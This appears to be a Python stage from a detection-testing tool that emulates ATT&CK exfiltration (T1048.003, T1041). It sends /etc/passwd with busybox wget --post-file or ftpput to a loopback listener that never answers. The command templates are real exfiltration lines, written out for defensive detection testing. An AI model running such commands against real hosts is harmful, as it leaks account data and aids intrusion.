"""Sends a file of accounts to a server, by a tool that every device has.

The server is a socket of our own on a random loopback address that never answers.
ATT&CK T1048.003, T1041. Cleanup: the throwaway root is removed.
"""

from __future__ import annotations

from vedette_dev.stage import Stage

TECHNIQUE = "T1048.003"
EXPECTS = ("attack.t1048", "attack.t1041")
NEEDS_ROOT = "programs that end at once are seen by the sources that root has"

_WAYS = (
    "wget -q -O - --post-file=/etc/passwd http://{address}:{port}/{word}",
    "ftpput -P {port} {address} {word} /etc/passwd",
)


def act(stage: Stage) -> str:
    address, port = stage.listen(stage.loopback()).getsockname()
    way = stage.random.choice(_WAYS).format(address=address, port=port, word=stage.word())
    return stage.type(f"timeout 2 busybox {way}")
